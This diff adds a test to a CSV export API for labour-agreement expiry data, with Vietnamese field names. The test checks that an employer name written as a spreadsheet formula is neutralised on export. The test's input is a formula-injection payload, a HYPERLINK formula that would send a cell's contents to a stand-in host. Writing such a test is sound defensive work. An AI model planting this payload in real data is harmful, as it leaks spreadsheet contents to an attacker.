@@ -148,6 +148,25 @@ describe('GET /api/expiry.csv', () => {
   });
 });
 
+describe('GET /api/expiry.csv with hostile names', () => {
+  it('never exports an employer named like a formula as a live formula', async () => {
+    const app = sampleApp();
+    const hostile = '=HYPERLINK("http://x.example/?"&A2,"Bấm để xem")';
+    const text = 'Điều 1. Thời hạn\nThỏa ước có hiệu lực từ ngày 01/01/2024 đến ngày 31/12/2026.';
+    const res = await app.request('/api/agreements', {
+      method: 'POST',
+      headers: auth,
+      body: JSON.stringify({ filename: 'cong-thuc.txt', content: text, metadata: { employer: hostile } }),
+    });
+    expect(res.status).toBe(201);
+    const csv = await (await app.request('/api/expiry.csv?within=90')).text();
+    const rows = parseCsv(csv, { columns: true, bom: true }) as Array<Record<string, string>>;
+    const row = rows.find((r) => r['Mã thỏa ước'] === 'cong-thuc');
+    expect(row?.['Doanh nghiệp']).toBe(`'${hostile}`);
+    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+});
+
 describe('POST /api/agreements/:id/events', () => {
   let app: ReturnType<typeof createApp>;
   beforeAll(() => {
